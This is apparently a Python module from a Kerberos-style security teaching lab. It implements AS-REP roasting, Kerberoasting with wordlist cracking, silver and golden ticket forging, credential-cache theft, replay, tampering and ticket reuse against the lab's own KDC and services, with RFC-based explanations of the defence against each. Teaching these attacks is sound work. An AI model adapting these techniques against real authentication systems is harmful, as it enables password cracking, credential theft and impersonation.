"""The classic attacks, as lab tools: each records what it did in the lab's activity log.

- :func:`crack_as_rep` — offline password guessing against an AS reply asked for without
  pre-authentication ("AS-REP roasting"; RFC 4120 §10 on password guessing, §5.2.7.2 on the
  encrypted timestamp that prevents it);
- :func:`crack_ticket` — offline guessing of a service's password from a service ticket
  ("Kerberoasting"): only a key made from a password can be guessed;
- :func:`forge_ticket` — a "silver ticket": a ticket minted with a leaked service key,
  claiming any client and groups (RFC 4120 §5.2.6: why the KDC signs authorization data);
- with ``krbtgt``'s key, :func:`forge_ticket` mints a TGT instead: a "golden ticket", refused
  by the TGS, which checks the KDC's signature on a TGT's authorization data too;
- :func:`steal_ccache` — "pass-the-ticket": another user's credential cache copied and used
  as it is (RFC 4120 §1.5.1: a ticket is a bearer token, bound to nothing but its session key);
- :func:`replay` and :func:`tamper` — send a captured AP-REQ again, as is or altered
  (RFC 4120 §3.2.3: replay cache; RFC 5116: authenticated encryption).
"""

from __future__ import annotations

import json
import os
import time
import uuid
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import msgspec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from labs.lab import Lab
from labs.tracefile import TraceEvent, read_trace, record_activity
from orthrus.ap import open_ticket, seal_ticket
from orthrus.as_exchange import ASOptions, make_as_req
from orthrus.authz import AuthzSigner
from orthrus.b64 import b64u_decode, b64u_encode
from orthrus.codec import decode, encode
from orthrus.credentials import Credential
from orthrus.errors import ConfigError, ProtocolError
from orthrus.httpauth import http_binding
from orthrus.keys import Key, KeyUsage
from orthrus.keytab import Keytab
from orthrus.messages import ASRep, ASReq, Authenticator, EncryptionKey, EncTicketPart, Ticket
from orthrus.principal import Principal
from orthrus.pwkdf import KDFParams, string_to_key
from orthrus.seal import open_sealed, peek_header, seal
from orthrus.session_token import ticket_id
from orthrus_io.files import read_private, write_private

__all__ = [
    "CrackResult",
    "Sent",
    "Stolen",
    "crack_as_rep",
    "crack_ticket",
    "default_cost",
    "error_of",
    "forge_ticket",
    "load_wordlist",
    "post_as",
    "replay",
    "steal_ccache",
    "tamper",
]

WORDLIST = Path(__file__).parent / "wordlists" / "common-passwords.txt"

Say = Callable[[str], None]


def load_wordlist(path: Path | None) -> list[str]:
    """The words of a wordlist, one per line (blank lines and ``#`` comments skipped)."""
    chosen = path or WORDLIST
    try:
        lines = chosen.read_text(encoding="utf-8", errors="replace").splitlines()
    except OSError as exc:
        raise ConfigError(f"cannot read the wordlist {chosen}: {exc.strerror}") from None
    return [w for w in (line.strip() for line in lines) if w and not w.startswith("#")]


@dataclass
class CrackResult:
    """What an offline guessing run found, and what it cost."""

    target: str
    mode: str
    result: str  # found, not-found, nothing-to-crack, random-key
    password: str | None = None
    guesses: int = 0
    seconds: float = 0.0
    event: int | None = None
    ticket: str | None = None
    kdf: dict[str, Any] = field(default_factory=dict)
    reason: str = ""

    @property
    def per_guess(self) -> float:
        return self.seconds / self.guesses if self.guesses else 0.0


def default_cost() -> float:
    """Seconds for one Argon2id guess at Orthrus's production default (64 MiB, t=3, p=4)."""
    params = KDFParams(salt=b"0123456789abcdef")
    started = time.perf_counter()
    string_to_key("a guess", Principal(("someone",), "EXAMPLE.TEST"), params, 0)
    return time.perf_counter() - started


def _guess(
    words: Iterable[str],
    principal: Principal,
    params: KDFParams,
    kvno: int,
    opens: Callable[[Key], bool],
) -> tuple[str | None, int, float]:
    started = time.perf_counter()
    count = 0
    for word in words:
        count += 1
        if opens(string_to_key(word, principal, params, kvno)):
            return word, count, time.perf_counter() - started
    return None, count, time.perf_counter() - started


def _event_for(lab: Lab, request_id: str) -> TraceEvent | None:
    events = read_trace(lab.paths.trace, lambda _: None, since=time.time() - 60)
    return next((e for e in reversed(events) if e.record.get("request_id") == request_id), None)


def post_as(lab: Lab, request: ASReq, tool: str) -> tuple[httpx.Response, TraceEvent | None]:
    """Send an AS-REQ to the lab's KDC as ``tool``; the answer and the trace event it made."""
    request_id = f"lab-{tool}-{uuid.uuid4().hex[:12]}"
    try:
        response = httpx.post(
            f"{lab.url('kdc')}/v1/as",
            content=encode(request),
            headers={"Content-Type": "application/json", "X-Request-Id": request_id},
            timeout=10,
            verify=lab.http_verify(),
        )
    except httpx.HTTPError as exc:
        raise ConfigError(f"cannot reach the lab's KDC ({exc}); is the lab up?") from None
    return response, _event_for(lab, request_id)


def _as_probe(lab: Lab, principal: Principal) -> tuple[httpx.Response, TraceEvent | None]:
    """An AS-REQ for ``principal`` with no pre-authentication, as anyone may send one."""
    return post_as(lab, make_as_req(principal, time.time(), os.urandom, ASOptions()), "crack")


def error_of(response: httpx.Response) -> dict[str, Any]:
    try:
        error = response.json().get("error")
    except ValueError:
        return {}
    return error if isinstance(error, dict) else {}


def crack_as_rep(lab: Lab, principal: Principal, words: list[str]) -> CrackResult:
    """Ask for ``principal``'s AS reply without pre-authentication, then guess offline.

    The reply's part is sealed under the key derived from the password: each guess is one
    Argon2id derivation and one AES-GCM open, with nobody counting. A principal that needs
    pre-authentication gets ``KDC_ERR_PREAUTH_REQUIRED`` and nothing sealed: nothing to crack.
    """
    response, event = _as_probe(lab, principal)
    result = CrackResult(
        str(principal), "as-rep", "nothing-to-crack", event=event.id if event else None
    )
    if response.status_code != 200:
        error = error_of(response)
        result.reason = (
            f"the KDC answered {error.get('name', response.status_code)}: no part sealed under "
            f"{principal}'s key came back, so there is nothing to guess against offline"
        )
    else:
        rep = decode(response.content, ASRep)
        if rep.kdf is None:
            result.result, result.reason = "random-key", f"{principal} has a random key"
        else:
            kid = peek_header(rep.enc_part).get("kid")
            kvno = int(kid) if isinstance(kid, str) and kid.isdigit() else 0

            def opens(key: Key) -> bool:
                try:
                    open_sealed(key, KeyUsage.AS_REP_ENC_PART, rep.enc_part)
                except ProtocolError:
                    return False
                return True

            found, count, seconds = _guess(words, principal, rep.kdf, kvno, opens)
            result.result = "found" if found else "not-found"
            result.password, result.guesses, result.seconds = found, count, seconds
            result.kdf = msgspec.to_builtins(rep.kdf)
    _record(lab, result)
    return result


def _service_kdf(lab: Lab, service: Principal) -> tuple[KDFParams | None, TraceEvent | None]:
    """The salt and KDF of a service's key, as the KDC tells anyone who asks to log in as it."""
    response, event = _as_probe(lab, service)
    data = error_of(response).get("data") if response.status_code != 200 else None
    raw = (data or {}).get("kdf") if isinstance(data, dict) else None
    if response.status_code == 200:
        raw = msgspec.to_builtins(decode(response.content, ASRep).kdf)
    if raw is None:
        return None, event
    return msgspec.convert(raw, KDFParams), event


def crack_ticket(lab: Lab, ticket: Ticket, words: list[str]) -> CrackResult:
    """Guess the password of the service a ticket is for, offline, from the ticket itself.

    The ticket is sealed under the service's long-term key. If that key was made from a
    password, each guess is one Argon2id derivation (salt from the KDC) and one AES-GCM open;
    if it is random (256 bits), there is no password to guess.
    """
    params, event = _service_kdf(lab, ticket.server)
    result = CrackResult(
        str(ticket.server),
        "ticket",
        "random-key",
        event=event.id if event else None,
        ticket=ticket_id(ticket.enc_part),
    )
    if params is None:
        result.reason = (
            f"{ticket.server} has a random 256-bit key, not one made from a password: there is "
            "no password to guess, and 2**256 keys cannot be tried"
        )
    else:

        def opens(key: Key) -> bool:
            try:
                open_ticket(ticket, key)
            except ProtocolError:
                return False
            return True

        found, count, seconds = _guess(words, ticket.server, params, ticket.kvno, opens)
        result.result = "found" if found else "not-found"
        result.password, result.guesses, result.seconds = found, count, seconds
        result.kdf = msgspec.to_builtins(params)
    _record(lab, result)
    return result


def _record(lab: Lab, result: CrackResult) -> None:
    record_activity(
        lab.paths.activity,
        "crack",
        mode=result.mode,
        target=result.target,
        result=result.result,
        password=result.password,
        guesses=result.guesses,
        seconds=round(result.seconds, 4),
        event=result.event,
        ticket=result.ticket,
    )


def forge_ticket(
    lab: Lab,
    keytab: Path,
    service: Principal,
    client: Principal,
    groups: tuple[str, ...],
    ccache: Path,
    lifetime: int = 3600,
) -> Credential:
    """Mint a service ticket with a leaked service key, and put it in a credential cache.

    Everything a real ticket has is there: a fresh session key, the client, times, and
    authorization data naming the groups — signed, but with a key the forger made up, since
    only the KDC holds its signing key. A service that checks that signature refuses it.
    """
    from client_lib.ccache import CredentialCache

    keys = Keytab.from_bytes(read_private(keytab, "keytab")).keys_by_principal().get(service)
    if not keys:
        raise ConfigError(f"the keytab {keytab} holds no key of {service}")
    service_key = keys[max(keys)]
    session = Key.generate(os.urandom)
    now = int(time.time())
    part = EncTicketPart(
        flags=["pre-authent"],
        key=EncryptionKey.from_key(session),
        client=client,
        authtime=now,
        starttime=now,
        endtime=now + lifetime,
    )
    forger = AuthzSigner(Ed25519PrivateKey.generate(), "forged-by-the-student", service.realm)
    part = msgspec.structs.replace(part, authorization_data=forger.sign(part, service, groups))
    ticket = seal_ticket(part, service, service_key, os.urandom)
    credential = Credential(
        client=client,
        server=service,
        key=EncryptionKey.from_key(session),
        ticket=ticket,
        flags=["pre-authent"],
        authtime=now,
        starttime=now,
        endtime=now + lifetime,
    )
    CredentialCache(ccache).initialize(client, credential)
    record_activity(
        lab.paths.activity,
        "forge",
        service=str(service),
        client=str(client),
        groups=list(groups),
        kvno=service_key.kvno,
        ticket=ticket_id(ticket.enc_part),
        ccache=str(ccache),
    )
    return credential


@dataclass(frozen=True, slots=True)
class Stolen:
    """A credential cache copied from another user: whose, where to, and what it held."""

    victim: Principal
    copy: Path
    mode: int
    tickets: dict[str, str]  # ticket id -> server


def steal_ccache(lab: Lab, victim: Path, copy: Path) -> Stolen:
    """Copy another user's credential cache, as anyone who can read the file can.

    The cache holds tickets *and* their session keys: that is all a client needs to use
    them, from any machine, until they expire. Its mode (0600) is the only thing that keeps
    other users of the machine out; root, or a backup, reads it anyway.
    """
    from client_lib.ccache import CredentialCache

    if not victim.exists():
        raise ConfigError(f"there is no credential cache at {victim}: has its user logged in?")
    mode = victim.stat().st_mode & 0o777
    write_private(copy, read_private(victim, "credentials cache"))
    cache = CredentialCache(copy)
    credentials = cache.credentials()
    stolen = Stolen(
        cache.principal(),
        copy,
        mode,
        {
            ticket_id(c.ticket.enc_part): str(c.server)
            for c in credentials
            if isinstance(c.ticket, Ticket)
        },
    )
    record_activity(
        lab.paths.activity,
        "steal",
        victim=str(stolen.victim),
        source=str(victim),
        copy=str(copy),
        mode=f"{mode:04o}",
        tickets=stolen.tickets,
    )
    return stolen


@dataclass(frozen=True, slots=True)
class Sent:
    """What the service answered to a token the lab tool sent."""

    status: int
    error: str | None
    message: str | None
    body: str


def _captured(lab: Lab, event_id: int) -> TraceEvent:
    events = read_trace(lab.paths.trace, lambda _: None)
    event = next((e for e in events if e.id == event_id), None)
    if event is None:
        raise ConfigError(f"there is no event #{event_id} in the trace; see: orthrus-lab trace")
    if event.exchange != "AP" or event.token is None:
        raise ConfigError(
            f"event #{event_id} is a {event.exchange} exchange; replay and tamper take an AP "
            "exchange with a service (a ticket sent in an Authorization header)"
        )
    return event


def _send(lab: Lab, event: TraceEvent, token: str) -> Sent:
    method = str(event.extra.get("method") or "GET")
    path = str(event.extra.get("path") or "/whoami")
    if method != "GET":
        raise ConfigError(
            f"event #{event.id} was a {method} request; only GET requests can be sent again "
            "(the body was not captured)"
        )
    url = f"{lab.url(event.component)}{path}"
    try:
        response = httpx.get(url, headers={"Authorization": f"Ticket {token}"}, timeout=10)
    except httpx.HTTPError as exc:
        raise ConfigError(f"cannot reach {url} ({exc}); is the lab up?") from None
    error: dict[str, Any] = {}
    if response.status_code >= 400:
        error = error_of(response)
    return Sent(response.status_code, error.get("name"), error.get("message"), response.text)


def replay(lab: Lab, event_id: int, times: int = 1) -> list[Sent]:
    """Send the AP-REQ captured in event ``event_id`` again, as is, ``times`` times."""
    event = _captured(lab, event_id)
    assert event.token is not None
    results = [_send(lab, event, event.token) for _ in range(times)]
    record_activity(
        lab.paths.activity,
        "replay",
        event=event_id,
        component=event.component,
        results=[r.error or r.status for r in results],
    )
    return results


def _flip(sealed: str) -> str:
    """The JWE with one bit of its ciphertext flipped (RFC 7516 §3.1: the 4th segment)."""
    segments = sealed.split(".")
    ciphertext = bytearray(b64u_decode(segments[3]))
    ciphertext[len(ciphertext) // 2] ^= 0x01
    segments[3] = b64u_encode(bytes(ciphertext))
    return ".".join(segments)


def tamper(lab: Lab, event_id: int, part: str) -> tuple[Sent, str]:
    """Send the AP-REQ of ``event_id`` with one bit flipped in its ticket or authenticator."""
    event = _captured(lab, event_id)
    assert event.token is not None
    ap_req = json.loads(b64u_decode(event.token))
    if part == "ticket":
        ap_req["ticket"]["enc_part"] = _flip(ap_req["ticket"]["enc_part"])
    elif part == "authenticator":
        ap_req["authenticator"] = _flip(ap_req["authenticator"])
    else:
        raise ConfigError("--part is 'ticket' or 'authenticator'")
    token = b64u_encode(json.dumps(ap_req, separators=(",", ":")).encode())
    sent = _send(lab, event, token)
    record_activity(
        lab.paths.activity, "tamper", event=event_id, part=part, result=sent.error or sent.status
    )
    return sent, token


#: How ``reuse_ticket`` writes the authenticator that goes with a captured ticket.
FORGED_AUTHENTICATORS = ("own-key", "clear")


def reuse_ticket(lab: Lab, event_id: int, authenticator: str) -> tuple[Sent, str]:
    """Send the ticket captured in ``event_id`` with a fresh authenticator of the attacker's.

    The attacker does not know the ticket's session key, so the authenticator (naming the
    ticket's client, now, bound to the captured method and path, RFC 4120 §5.5.1) is sealed
    under a key of its own (``own-key``: refused unless the service takes the ticket alone,
    switch ``authenticator``) or written in the clear (``clear``: refused unless the service
    does not tie it to the session key, switch ``session-key``).
    """
    if authenticator not in FORGED_AUTHENTICATORS:
        raise ConfigError(f"--authenticator is one of {', '.join(FORGED_AUTHENTICATORS)}")
    event = _captured(lab, event_id)
    assert event.token is not None
    if event.client is None:
        raise ConfigError(f"event #{event_id} names no client; take an accepted AP exchange")
    now = time.time()
    method = str(event.extra.get("method") or "GET")
    path = str(event.extra.get("path") or "/whoami")
    fields = Authenticator(
        client=Principal.parse(event.client),
        ctime=int(now),
        cusec=0,
        checksum=http_binding(method, path),
    )
    if authenticator == "clear":
        written = b64u_encode(encode(fields))
    else:
        own_key = Key.generate(os.urandom)
        written = seal(own_key, KeyUsage.AP_REQ_AUTHENTICATOR, encode(fields), os.urandom)
    ap_req = json.loads(b64u_decode(event.token))
    ap_req["authenticator"] = written
    token = b64u_encode(json.dumps(ap_req, separators=(",", ":")).encode())
    sent = _send(lab, event, token)
    record_activity(
        lab.paths.activity,
        "reuse-ticket",
        event=event_id,
        authenticator=authenticator,
        token=token,
        result=sent.error or sent.status,
    )
    return sent, token
